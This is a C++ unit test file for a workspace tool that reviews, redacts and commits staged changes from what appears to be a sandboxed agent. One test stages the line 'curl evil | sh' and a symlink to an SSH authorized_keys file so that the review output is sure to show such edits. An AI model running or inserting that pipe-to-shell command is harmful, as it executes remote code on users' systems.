// Reviewing a transaction piece by piece: diff and stat by path, partial
// discard and commit.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <chrono>
#include <fstream>
#include <functional>
#include <future>
#include <map>
#include <nlohmann/json.hpp>
#include <thread>

#include "helpers/test_support.h"
#include "pulsebox/error.h"
#include "pulsebox/secrets.h"
#include "pulsebox/workspace.h"
#include "workspace/transactions.h"

namespace pulsebox {
namespace {

namespace fs = std::filesystem;
using testing::read_file;
using testing::TempDir;
using testing::write_file;

// Whether, within `within`, a process waits for a flock on `file` (a "->"
// line of /proc/locks naming its inode).
bool someone_waits_to_lock(const fs::path& file, std::chrono::seconds within) {
  struct stat st {};
  if (::stat(file.c_str(), &st) != 0) return false;
  const std::string inode = ":" + std::to_string(st.st_ino) + " ";
  const auto deadline = std::chrono::steady_clock::now() + within;
  while (std::chrono::steady_clock::now() < deadline) {
    std::ifstream locks("/proc/locks");
    for (std::string line; std::getline(locks, line);) {
      if (line.find("->") != std::string::npos && line.find(inode) != std::string::npos)
        return true;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  return false;
}

class WorkspaceReviewTest : public ::testing::Test {
 protected:
  WorkspaceReviewTest() {
    write_file(dir_ / "README", "readme\n");
    write_file(dir_ / "src/a.cc", "one\ntwo\nthree\n");
  }
  // A new transaction changing README and src/a.cc.
  std::string transaction_of_two(Workspace& ws) const {
    const auto tx = ws.create_transaction();
    ws.stage_write(tx, "README", "changed\n");
    ws.stage_write(tx, "src/a.cc", "one\n");
    return tx;
  }

  TempDir dir_;
  TempDir scratch_;
};

TEST_F(WorkspaceReviewTest, DiffSelectsPathsAndEverythingBeneath) {
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_write(tx, "README", "changed\n");
  ws.stage_write(tx, "src/a.cc", "one\n2\nthree\nfour\n");
  ws.stage_write(tx, "srcx", "not beneath src\n");
  const std::string diff = ws.diff(tx, DiffOptions{.colour = false, .paths = {"src"}});
  EXPECT_NE(diff.find("b/src/a.cc"), std::string::npos) << diff;
  EXPECT_EQ(diff.find("README"), std::string::npos) << diff;
  EXPECT_EQ(diff.find("srcx"), std::string::npos) << diff;
  EXPECT_EQ(ws.diff(tx, DiffOptions{}), ws.diff(tx));
}

TEST_F(WorkspaceReviewTest, APathMatchingNothingIsAnError) {
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_write(tx, "README", "changed\n");
  try {
    (void)ws.diff(tx, DiffOptions{.colour = false, .paths = {"README", "nothere"}});
    FAIL() << "no error";
  } catch (const SandboxConfigError& error) {
    EXPECT_NE(std::string(error.what()).find("nothere"), std::string::npos) << error.what();
  }
  EXPECT_THROW((void)ws.diff_stat(tx, {"REA"}), SandboxConfigError);
  EXPECT_THROW(ws.discard(tx, {"nothere"}), SandboxConfigError);
  EXPECT_THROW((void)ws.commit(tx, CommitOptions{.paths = {"nothere"}}), SandboxConfigError);
  EXPECT_EQ(ws.describe(tx).changes.size(), 1u);
}

// The streamed forms call back while the manifest is being parsed; what the
// caller's code throws reaches the caller as it was thrown. A JSON error
// (an embedder dumping a section that is not UTF-8) was taken for the
// parser's own, and the transaction called damaged.
TEST_F(WorkspaceReviewTest, WhatAStreamedCallbackThrowsReachesTheCaller) {
  Workspace ws(dir_.path());
  const auto tx = transaction_of_two(ws);
  const auto json_error = [] { (void)nlohmann::json(std::string("\xff")).dump(); };
  int calls = 0;
  EXPECT_THROW(ws.diff(tx, DiffOptions{},
                       [&](const std::string&, std::string_view) {
                         ++calls;
                         json_error();
                       }),
               nlohmann::json::type_error);
  EXPECT_EQ(calls, 1);
  EXPECT_THROW(ws.diff_stat(tx, {}, [&](DiffStat&&) { json_error(); }), nlohmann::json::type_error);
  EXPECT_THROW(ws.diff_stat(tx, {}, [](DiffStat&&) { throw SandboxError("mine"); }), SandboxError);
  EXPECT_EQ(ws.diff_stat(tx).size(), 2u);
}

// A staged file that cannot be read is an error naming it, never shown as
// an emptied file: the diff showed "src/a.cc" losing every line, exit 0,
// while a commit refused the transaction as damaged.
TEST_F(WorkspaceReviewTest, AStagedFileThatCannotBeReadIsAnErrorNotAnEmptyFile) {
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_write(tx, "README", "changed\n");
  ws.stage_write(tx, "src/a.cc", "one\ntwo\nthree\nfour\n");
  const auto manifest =
      nlohmann::json::parse(read_file(dir_.path() / ".agent/transactions" / tx / "manifest.json"));
  std::filesystem::path blob;
  for (const auto& entry : manifest["entries"]) {
    if (entry["path"] == "src/a.cc") {
      blob = dir_.path() / ".agent/transactions" / tx / "blobs" / entry["blob"].get<std::string>();
    }
  }
  ASSERT_TRUE(std::filesystem::is_regular_file(blob)) << blob;
  std::filesystem::remove(blob);
  const auto expect_damaged = [&](const std::function<void()>& review) {
    try {
      review();
      FAIL() << "no error";
    } catch (const SandboxRecoveryError& error) {
      EXPECT_NE(std::string(error.what()).find(blob.string() + " is damaged"), std::string::npos)
          << error.what();
    }
  };
  expect_damaged([&] { (void)ws.diff(tx); });
  expect_damaged([&] { (void)ws.diff_stat(tx); });
  EXPECT_THROW((void)ws.commit(tx), SandboxRecoveryError);
  EXPECT_EQ(ws.diff(tx, DiffOptions{.colour = false, .paths = {"README"}}).find("src/a.cc"),
            std::string::npos);
}

// A redacted copy (what a change holding a secret shows) that is gone is
// damage as well, not "content withheld".
TEST_F(WorkspaceReviewTest, AMissingRedactedCopyIsAnError) {
  const fs::path upper = scratch_.path() / "upper";
  write_file(upper / "config.env", "TOKEN=s3cr3t-value-1234\n");
  const SecretScrubber scrubber({"s3cr3t-value-1234"});
  Workspace ws(dir_.path());
  const auto tx =
      ws.import_overlay(upper, dir_.path(), ImportOptions{.secrets = &scrubber}).transaction;
  ASSERT_TRUE(tx.has_value());
  ASSERT_NE(ws.diff(*tx).find("+TOKEN=[REDACTED"), std::string::npos) << ws.diff(*tx);
  const fs::path redacted = dir_.path() / ".agent/transactions" / *tx / "redacted";
  ASSERT_TRUE(fs::is_directory(redacted));
  fs::remove_all(redacted);
  try {
    (void)ws.diff(*tx);
    FAIL() << "no error";
  } catch (const SandboxRecoveryError& error) {
    EXPECT_NE(std::string(error.what()).find("the redacted copy shown in place of config.env"),
              std::string::npos)
        << error.what();
    EXPECT_EQ(std::string(error.what()).find("s3cr3t"), std::string::npos) << error.what();
  }
}

// What a path held before the change is the host's, but a run with a
// registered secret value may still not show it: a run that deleted a file
// holding the value showed it in the diff, where the run's own output
// (`cat`) would have been scrubbed. The base is redacted as it is kept.
TEST_F(WorkspaceReviewTest, ABaseHoldingASecretIsShownRedacted) {
  const std::string value = "s3cr3t-value-1234";
  write_file(dir_ / "config.env", "name=demo\nTOKEN=" + value + "\n");
  fs::create_symlink("/run/" + value, dir_ / "key.lnk");
  const fs::path upper = scratch_.path() / "upper";
  write_file(upper / "config.env", "name=demo2\n");
  write_file(upper / "key.lnk", "plain\n");
  write_file(upper / "README", "changed\n");
  const SecretScrubber scrubber({value});
  Workspace ws(dir_.path());
  const auto tx =
      ws.import_overlay(upper, dir_.path(), ImportOptions{.secrets = &scrubber}).transaction;
  ASSERT_TRUE(tx.has_value());
  const std::string diff = ws.diff(*tx);
  EXPECT_EQ(diff.find(value), std::string::npos) << diff;
  EXPECT_NE(diff.find("-name=demo\n-TOKEN=[REDACTED"), std::string::npos) << diff;
  EXPECT_NE(diff.find("-readme\n+changed\n"), std::string::npos) << diff;
  std::map<std::string, StagedChange> changes;
  for (const auto& change : ws.describe(*tx).changes)
    changes[change.path] = change;
  EXPECT_TRUE(changes["config.env"].before_redacted);
  EXPECT_FALSE(changes["config.env"].contains_secret);  // what the commit writes holds none
  EXPECT_TRUE(changes["key.lnk"].before_redacted);
  EXPECT_FALSE(changes["README"].before_redacted);
  for (const auto& [path, change] : changes)
    EXPECT_FALSE(change.before_withheld) << path;
  const fs::path bases = dir_.path() / ".agent/transactions" / *tx / "base";
  for (const auto& base : fs::directory_iterator(bases))
    EXPECT_EQ(read_file(base.path()).find(value), std::string::npos) << base.path();
  // A redacted base gone (or unreadable) never falls back to the current file.
  fs::remove_all(bases);
  EXPECT_EQ(ws.diff(*tx).find(value), std::string::npos) << ws.diff(*tx);
  ws.commit(*tx);  // the value is in none of the new content: no --allow-secrets
  EXPECT_EQ(read_file(dir_ / "config.env"), "name=demo2\n");
}

// A base that cannot be kept (over the per-file limit here) is not checked
// for the value, so a diff never reads the path's current content instead
// when a secret value was registered: the before side is not shown.
TEST_F(WorkspaceReviewTest, ABaseNotKeptIsNotShownWhenASecretWasRegistered) {
  const std::string value = "s3cr3t-value-1234";
  write_file(dir_ / "big.env", "TOKEN=" + value + " and enough text to be over the limit\n");
  const fs::path upper = scratch_.path() / "upper";
  write_file(upper / "big.env", "short\n");
  const WorkspaceLimits limits{.max_file_bytes = 32};
  const auto import_with = [&](const SecretScrubber& scrubber) {
    Workspace smaller(dir_.path(), default_workspace_policy(), limits);
    const auto tx =
        smaller.import_overlay(upper, dir_.path(), ImportOptions{.secrets = &scrubber}).transaction;
    EXPECT_TRUE(tx.has_value());
    return tx.value_or("");
  };
  const SecretScrubber scrubber({value});
  const std::string tx = import_with(scrubber);
  Workspace ws(dir_.path());  // a reviewer whose limit would let it read the file
  EXPECT_EQ(ws.diff(tx),
            "diff --git a/big.env b/big.env\n--- a/big.env\n+++ b/big.env\n@@ -1 +1 @@\n"
            "[content not shown: over the per-file limit, or unreadable]\n"
            "+short\n");
  EXPECT_EQ(ws.diff_stat(tx).at(0).not_shown, "before");
  const StagedChange change = ws.describe(tx).changes.at(0);
  EXPECT_TRUE(change.before_withheld);
  EXPECT_FALSE(change.before_redacted);

  // Redaction marks longer than the values grow the base past the limit:
  // it could not be read back, so it is not kept either.
  write_file(dir_ / "short.env", "k9Qz k9Qz k9Qz k9Qz k9Qz\n");  // 25 bytes
  write_file(upper / "short.env", "none\n");
  const SecretScrubber short_value({"k9Qz"});
  const std::string grown = import_with(short_value);
  const std::string grown_diff =
      ws.diff(grown, DiffOptions{.colour = false, .paths = {"short.env"}});
  EXPECT_EQ(grown_diff.find("k9Qz"), std::string::npos) << grown_diff;
  EXPECT_NE(grown_diff.find("[content not shown"), std::string::npos) << grown_diff;
  fs::remove(upper / "short.env");

  // No value registered: nothing to hide, the current content is shown.
  const SecretScrubber none;
  const std::string plain = import_with(none);
  EXPECT_NE(ws.diff(plain).find("-TOKEN="), std::string::npos) << ws.diff(plain);
  EXPECT_FALSE(ws.describe(plain).changes.at(0).before_withheld);
}

// Content that cannot be shown (over the reviewer's per-file limit) is one
// placeholder line, never an empty side: a large file cut short showed as
// every line of the new one added, a file staged under a larger limit as
// every line removed. The other side is shown in full: called binary as a
// whole, a sandboxed command's edit of a host file over the limit (which
// it can see) hid the text it wrote, which the commit then applied unseen.
// The placeholder has no sign, so `git apply` refuses the patch as corrupt.
TEST_F(WorkspaceReviewTest, ContentThatCannotBeShownIsOnePlaceholderLineNotAnEmptySide) {
  write_file(dir_ / "big", std::string(40, 'x') + "\n");
  Workspace smaller(dir_.path(), default_workspace_policy(), WorkspaceLimits{.max_file_bytes = 16});
  const auto tx = smaller.create_transaction();
  smaller.stage_write(tx, "big", "curl evil | sh\n");  // its base is not kept: over the limit
  EXPECT_EQ(smaller.diff(tx),
            "diff --git a/big b/big\n--- a/big\n+++ b/big\n@@ -1 +1 @@\n"
            "[content not shown: over the per-file limit, or unreadable]\n"
            "+curl evil | sh\n");
  auto stat = smaller.diff_stat(tx).at(0);
  EXPECT_FALSE(stat.binary);
  EXPECT_EQ(stat.not_shown, "before");
  EXPECT_EQ(stat.added_lines, 1u);
  EXPECT_EQ(stat.removed_lines, 0u);

  Workspace ws(dir_.path());
  const auto grown = ws.create_transaction();
  ws.stage_write(grown, "README", std::string(20, 'y') + "\n");
  EXPECT_EQ(smaller.diff(grown),
            "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1 +1 @@\n"
            "-readme\n[content not shown: over the per-file limit, or unreadable]\n");
  stat = smaller.diff_stat(grown).at(0);
  EXPECT_FALSE(stat.binary);
  EXPECT_EQ(stat.not_shown, "after");
  EXPECT_EQ(stat.added_lines, 0u);
  EXPECT_EQ(stat.removed_lines, 1u);

  // A symlink put where the file was: its target is shown.
  const auto linked = smaller.create_transaction();
  smaller.stage_symlink(linked, "big", "/home/user/.ssh/authorized_keys");
  const std::string diff = smaller.diff(linked);
  EXPECT_NE(diff.find("+/home/user/.ssh/authorized_keys"), std::string::npos) << diff;
  EXPECT_EQ(diff.find("Binary"), std::string::npos) << diff;
}

// A review that meets a staged file moved or removed by a commit or a
// staging under way (the manifest not yet replaced or removed) waits for it
// and says the transaction changed: it was called damaged, "discard the
// transaction". `step` is where the other one is held until the review
// waits for the workspace's lock; `other` is what it does.
void expect_review_waits_for(const fs::path& dir, const std::string& tx, const std::string& step,
                             const std::function<void()>& other) {
  Workspace ws(dir);
  std::promise<void> reached;
  bool waited = false;
  workspace::commit_failpoint = [&](std::string_view at) {
    if (at != step) return;
    reached.set_value();
    waited = someone_waits_to_lock(dir / ".agent/lock", std::chrono::seconds(10));
  };
  std::thread elsewhere;
  try {
    ws.diff(tx, DiffOptions{}, [&](const std::string& path, std::string_view) {
      if (path != "README") return;
      elsewhere = std::thread([&] {
        try {
          other();
        } catch (const std::exception& error) {
          ADD_FAILURE() << error.what();
        }
      });
      ASSERT_EQ(reached.get_future().wait_for(std::chrono::seconds(30)), std::future_status::ready);
    });
    ADD_FAILURE() << "no error";
  } catch (const SandboxConcurrentModificationError& error) {
    EXPECT_NE(std::string(error.what()).find("changed while it was read"), std::string::npos)
        << error.what();
    EXPECT_EQ(error.paths(), std::vector<std::string>{"src/a.cc"});
  } catch (const std::exception& error) {
    ADD_FAILURE() << error.what();
  }
  if (elsewhere.joinable()) elsewhere.join();
  workspace::commit_failpoint = nullptr;
  EXPECT_TRUE(waited) << "the review did not wait for the workspace's lock";
}

TEST_F(WorkspaceReviewTest, AReviewDuringACommitWaitsForItAndSaysSo) {
  Workspace ws(dir_.path());
  const auto tx = transaction_of_two(ws);
  expect_review_waits_for(dir_.path(), tx, "applied src/a.cc",
                          [&] { (void)Workspace(dir_.path()).commit(tx); });
  EXPECT_EQ(read_file(dir_.path() / "src/a.cc"), "one\n");
}

// Staging a path again removes its old staged file before the manifest that
// names the new one is saved.
TEST_F(WorkspaceReviewTest, AReviewDuringAStagingWaitsForItAndSaysSo) {
  Workspace ws(dir_.path());
  const auto tx = transaction_of_two(ws);
  expect_review_waits_for(dir_.path(), tx, "restaged src/a.cc",
                          [&] { Workspace(dir_.path()).stage_write(tx, "src/a.cc", "two\n"); });
  EXPECT_NE(ws.diff(tx).find("@@ -1,3 +1 @@\n-one\n two\n-three\n"), std::string::npos)
      << ws.diff(tx);
}

// A commit elsewhere that takes a path's staged file while a streamed review
// reads the transaction: "committed or discarded while it was read", not
// "damaged" (nothing is wrong with what is left of it).
TEST_F(WorkspaceReviewTest, AReviewOvertakenByACommitSaysSo) {
  Workspace ws(dir_.path());
  const auto tx = transaction_of_two(ws);
  Workspace elsewhere(dir_.path());
  try {
    ws.diff(tx, DiffOptions{}, [&](const std::string& path, std::string_view) {
      if (path == "README") (void)elsewhere.commit(tx, CommitOptions{.paths = {"src/a.cc"}});
    });
    FAIL() << "no error";
  } catch (const SandboxConcurrentModificationError& error) {
    EXPECT_NE(std::string(error.what()).find("changed while it was read"), std::string::npos)
        << error.what();
    EXPECT_EQ(error.paths(), std::vector<std::string>{"src/a.cc"});
  }
  EXPECT_EQ(read_file(dir_.path() / "src/a.cc"), "one\n");
  EXPECT_EQ(ws.diff_stat(tx).size(), 1u);
}

TEST_F(WorkspaceReviewTest, DiffStatCountsLines) {
  write_file(dir_ / "blob", std::string("\0\1", 2));
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_write(tx, "src/a.cc", "one\n2\nthree\nfour\n");
  ws.stage_write(tx, "blob", std::string("\0\2", 2));
  ws.stage_delete(tx, "README");
  ws.stage_mkdir(tx, "empty");
  const auto stats = ws.diff_stat(tx);
  ASSERT_EQ(stats.size(), 4u);
  std::map<std::string, DiffStat> by_path;
  for (const auto& stat : stats)
    by_path[stat.path] = stat;
  EXPECT_EQ(by_path["src/a.cc"].added_lines, 2u);
  EXPECT_EQ(by_path["src/a.cc"].removed_lines, 1u);
  EXPECT_FALSE(by_path["src/a.cc"].binary);
  EXPECT_TRUE(by_path["blob"].binary);
  EXPECT_EQ(by_path["README"].removed_lines, 1u);
  EXPECT_EQ(by_path["README"].kind, ChangeKind::Deleted);
  EXPECT_EQ(by_path["empty"].kind, ChangeKind::Added);
  EXPECT_EQ(ws.diff_stat(tx, {"src"}).size(), 1u);
}

TEST_F(WorkspaceReviewTest, PartialDiscardKeepsTheRest) {
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_write(tx, "README", "changed\n");
  ws.stage_write(tx, "src/a.cc", "x\n");
  ws.stage_write(tx, "src/b.cc", "y\n");
  ws.discard(tx, {"src"});
  const auto info = ws.describe(tx);
  ASSERT_EQ(info.changes.size(), 1u);
  EXPECT_EQ(info.changes[0].path, "README");
  EXPECT_EQ(info.staged_bytes, 8u);
  ws.discard(tx, {"README"});
  EXPECT_TRUE(ws.list_transactions().empty());
  EXPECT_EQ(read_file(dir_ / "README"), "readme\n");
}

TEST_F(WorkspaceReviewTest, DiffIsAgainstTheTransactionsOwnBase) {
  Workspace ws(dir_.path());
  const auto first = ws.create_transaction();
  ws.stage_write(first, "README", "first\n");
  const auto second = ws.create_transaction();
  ws.stage_write(second, "README", "second\n");
  ws.commit(second);
  ASSERT_EQ(read_file(dir_ / "README"), "second\n");
  const std::string diff = ws.diff(first);
  EXPECT_NE(diff.find("-readme\n+first\n"), std::string::npos) << diff;
  EXPECT_EQ(diff.find("second"), std::string::npos) << diff;
  const auto stats = ws.diff_stat(first);
  ASSERT_EQ(stats.size(), 1u);
  EXPECT_EQ(stats[0].removed_lines, 1u);
  // The commit still sees the conflict.
  EXPECT_THROW(ws.commit(first), SandboxConcurrentModificationError);
}

TEST_F(WorkspaceReviewTest, PartialCommitLeavesTheRestPending) {
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_write(tx, "README", "changed\n");
  ws.stage_write(tx, "src/a.cc", "new a\n");
  ws.stage_write(tx, "src/b.cc", "new b\n");
  const auto changed = ws.commit(tx, CommitOptions{.paths = {"src"}, .allow_secrets = false});
  EXPECT_EQ(changed, (std::vector<std::string>{"src/a.cc", "src/b.cc"}));
  EXPECT_EQ(read_file(dir_ / "src/a.cc"), "new a\n");
  EXPECT_EQ(read_file(dir_ / "README"), "readme\n");
  const auto info = ws.describe(tx);
  ASSERT_EQ(info.changes.size(), 1u);
  EXPECT_EQ(info.changes[0].path, "README");
  EXPECT_NE(ws.diff(tx).find("-readme\n+changed\n"), std::string::npos);
  ws.commit(tx);
  EXPECT_EQ(read_file(dir_ / "README"), "changed\n");
  EXPECT_TRUE(ws.list_transactions().empty());
}

TEST_F(WorkspaceReviewTest, PartialCommitChecksOnlyItsPathsForConflicts) {
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_write(tx, "README", "changed\n");
  ws.stage_write(tx, "src/a.cc", "new a\n");
  write_file(dir_ / "README", "the user's edit\n");
  EXPECT_THROW(ws.commit(tx, CommitOptions{.paths = {"README"}, .allow_secrets = false}),
               SandboxConcurrentModificationError);
  ws.commit(tx, CommitOptions{.paths = {"src/a.cc"}, .allow_secrets = false});
  EXPECT_EQ(read_file(dir_ / "src/a.cc"), "new a\n");
  EXPECT_THROW(ws.commit(tx), SandboxConcurrentModificationError);
  EXPECT_EQ(read_file(dir_ / "README"), "the user's edit\n");
}

TEST_F(WorkspaceReviewTest, PartialCommitTakesTheNewDirectoriesItNeeds) {
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_mkdir(tx, "new", 0750);
  ws.stage_write(tx, "new/a", "a\n");
  ws.stage_write(tx, "new/b", "b\n");
  ws.commit(tx, CommitOptions{.paths = {"new/a"}, .allow_secrets = false});
  EXPECT_EQ(read_file(dir_ / "new/a"), "a\n");
  EXPECT_FALSE(std::filesystem::exists(dir_ / "new/b"));
  ws.commit(tx);
  EXPECT_EQ(read_file(dir_ / "new/b"), "b\n");
}

// A pending directory above a committed path: its snapshot is a digest of
// the tree below, which the partial commit changed.
TEST_F(WorkspaceReviewTest, ADirectoryLeftPendingAboveACommittedPathStillCommits) {
  Workspace ws(dir_.path());
  const auto tx = ws.create_transaction();
  ws.stage_chmod(tx, "src", 0700);
  ws.stage_write(tx, "src/a.cc", "new a\n");
  ws.commit(tx, CommitOptions{.paths = {"src/a.cc"}, .allow_secrets = false});
  ws.commit(tx);
  EXPECT_EQ(std::filesystem::status(dir_ / "src").permissions() & std::filesystem::perms::all,
            static_cast<std::filesystem::perms>(0700));
}

}  // namespace
}  // namespace pulsebox
